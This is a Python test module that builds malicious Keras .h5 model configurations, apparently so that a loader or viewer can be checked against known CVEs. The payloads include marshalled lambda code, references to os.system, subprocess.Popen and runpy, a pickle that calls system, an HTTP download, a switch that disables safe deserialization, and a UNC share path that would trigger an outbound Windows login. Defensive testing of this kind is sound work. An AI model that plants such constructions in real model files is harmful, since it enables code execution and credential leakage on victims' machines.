"""Configurations that would have Keras's own loading run code, read files or call functions.

A layer whose code is not Keras's may open as a locked node; what counts is that nothing of it takes effect.
"""

from __future__ import annotations

import base64
import marshal
from pathlib import Path
from typing import Any

from tests.hostile import sound
from tests.hostile.case import hostile
from tests.hostile.sound import Config, called, functional, keras

OWNED = "owned.txt"
"""What the attacks would write beside themselves."""


def _code(path: Path) -> str:
    """Marshalled code that proves that it ran, as a Lambda layer holds it."""
    source = f"lambda x: (open({str(path.parent / OWNED)!r}, 'w').close(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


def _with(path: Path, layer: Config) -> None:
    sound.h5(path, sound.changed(lambda layers: layers.insert(1, layer)))


def _parameter(path: Path, value: Any, name: str = "activation") -> None:
    sound.h5(path, sound.changed(lambda layers: layers[1]["config"].update({name: value})))


@hostile(".h5", "CVE-2024-3660: a Lambda layer with marshalled code (Keras 3)", "locked")
def lambda_layer(path: Path) -> None:
    function = {"class_name": "__lambda__", "config": {"code": _code(path), "defaults": None, "closure": None}}
    _with(path, keras("Lambda", name="lambda", function=function))


@hostile(".h5", "CVE-2025-9905: the same as Keras 2 stores it", "locked")
def lambda_layer_of_keras_2(path: Path) -> None:
    settings = {"function": [_code(path), None, None], "function_type": "lambda", "module": "__main__"}
    _with(path, {"class_name": "Lambda", "config": {"name": "lambda", **settings}})


@hostile(".h5", "code in place of an activation", "locked")
def lambda_as_activation(path: Path) -> None:
    _parameter(path, {"class_name": "__lambda__", "config": {"code": _code(path), "defaults": None, "closure": None}})


@hostile(".h5", "CVE-2025-1550: any function of any module, by name", "locked")
def function_of_os(path: Path) -> None:
    _parameter(path, {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"})


@hostile(".h5", "CVE-2025-1550: a class of any module, made with arguments", "harmless")
def process_as_initializer(path: Path) -> None:
    evil = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}, "registered_name": None}
    _parameter(path, evil, "kernel_initializer")


@hostile(".h5", "CVE-2025-8747: a download through keras.utils.get_file", "harmless")
def download_as_regularizer(path: Path) -> None:
    evil = {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://127.0.0.1:9"}}
    _parameter(path, evil, "kernel_regularizer")


@hostile(".h5", "CVE-2025-9906: switches Keras's own safety off", "harmless")
def unsafe_deserialization(path: Path) -> None:
    evil = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    _parameter(path, evil, "kernel_constraint")


@hostile(".h5", "CVE-2026-1462: a SavedModel loaded from a path in the file", "locked")
def saved_model_layer(path: Path) -> None:
    _with(path, keras("TFSMLayer", name="tfsm", filepath=str(path.parent), call_endpoint="serve"))


@hostile(".h5", "keras#23654: TFSMLayer called as a function (not mended in Keras 3.15.1)", "locked")
def saved_model_function(path: Path) -> None:
    config = {"module": "builtins", "class_name": "function", "config": "TFSMLayer", "registered_name": "function"}
    _parameter(path, config)


@hostile(".h5", "CVE-2025-49655: a pickle in TorchModuleWrapper", "locked")
def torch_pickle(path: Path) -> None:
    pickled = base64.b64encode(b"cos\nsystem\n(S'true'\ntR.").decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    _with(path, keras("TorchModuleWrapper", name="torch", module=module))


@hostile(".h5", "CVE-2025-12058: a vocabulary that is a file of this computer")
def vocabulary_file(path: Path) -> None:
    _with(path, keras("StringLookup", name="lookup", vocabulary=str(sound.canary(path))))


@hostile(".h5", "a vocabulary on another computer, which Windows would log in to")
def vocabulary_on_a_share(path: Path) -> None:
    _with(path, keras("TextVectorization", name="words", vocabulary="\\\\203.0.113.1\\share\\words.txt"))


@hostile(".h5", "somebody's own class under one of Keras's names", "locked")
def own_class_called_dense(path: Path) -> None:
    sound.h5(path, sound.changed(lambda layers: layers[1].update(module="evil.layers", registered_name="evil>Dense")))


@hostile(".h5", "a type description, which TensorFlow makes out of a name", "locked")
def type_spec(path: Path) -> None:
    _parameter(path, {"class_name": "TypeSpec", "type_spec": "tf.RaggedTensorSpec", "serialized": [[None], "int64"]})


@hostile(".h5", "an operation of TensorFlow by name that reads a file", "locked")
def operation_that_reads(path: Path) -> None:
    layer = {"class_name": "TFOpLambda", "config": {"name": "op", "trainable": True, "function": "io.read_file"}}
    _with(path, layer)


@hostile(".h5", "code behind another layer: Wrapper, Bidirectional, TimeDistributed", "locked")
def lambda_in_a_wrapper(path: Path) -> None:
    inner = keras("Lambda", name="inner", function={"class_name": "__lambda__", "config": {"code": _code(path)}})
    _with(path, keras("TimeDistributed", name="outer", layer=inner))


@hostile(".h5", "a loss that is code", "harmless")
def lambda_as_loss(path: Path) -> None:
    code = {"class_name": "__lambda__", "config": {"code": _code(path), "defaults": None, "closure": None}}
    sound.h5(path, compiled={**sound.training(), "loss": code})


@hostile(".h5", "a metric of any module", "harmless")
def metric_of_a_module(path: Path) -> None:
    evil = {"module": "os", "class_name": "system", "config": {"command": "true"}, "registered_name": "system"}
    sound.h5(path, compiled={**sound.training(), "metrics": [evil]})


@hostile(".h5", "an optimizer of any module", "harmless")
def optimizer_of_a_module(path: Path) -> None:
    evil = {"module": "runpy", "class_name": "run_path", "config": {"path_name": "/tmp/x"}, "registered_name": None}
    sound.h5(path, compiled={**sound.training(), "optimizer": evil})


@hostile(".h5", "a model of a class that only its code knows")
def model_class(path: Path) -> None:
    sound.h5(path, {"class_name": "MyModel", "config": {"name": "mine"}})


@hostile(".h5", "layers that feed each other in a ring")
def loop(path: Path) -> None:
    layers = [
        called(keras("InputLayer", name="in", batch_shape=[None, 4])),
        called(keras("Dense", name="one", units=4), "two"),
        called(keras("Dense", name="two", units=4), "one"),
    ]
    sound.h5(path, functional(layers, [["in", 0, 0]], [["two", 0, 0]]))


@hostile(".h5", "a layer that is called on one that is not there")
def link_to_nowhere(path: Path) -> None:
    layers = [
        called(keras("InputLayer", name="in", batch_shape=[None, 4])),
        called(keras("Dense", name="a", units=4), "gone"),
    ]
    sound.h5(path, functional(layers, [["in", 0, 0]], [["a", 0, 0]]))


@hostile(".h5", "seventeen models, one in the other")
def models_in_models(path: Path) -> None:
    inner = keras("Dense", name="last", units=1)
    for number in range(17):
        settings = {"name": f"level{number}", "layers": [inner], "build_input_shape": [None, 4]}
        inner = {"module": "keras", "class_name": "Sequential", "config": settings}
    _with(path, inner)


@hostile(".h5", "two layers of one name, for readers that fill one and use the other")
def two_of_a_name(path: Path) -> None:
    sound.h5(path, sound.changed(lambda layers: layers[2]["config"].update(name="first")))
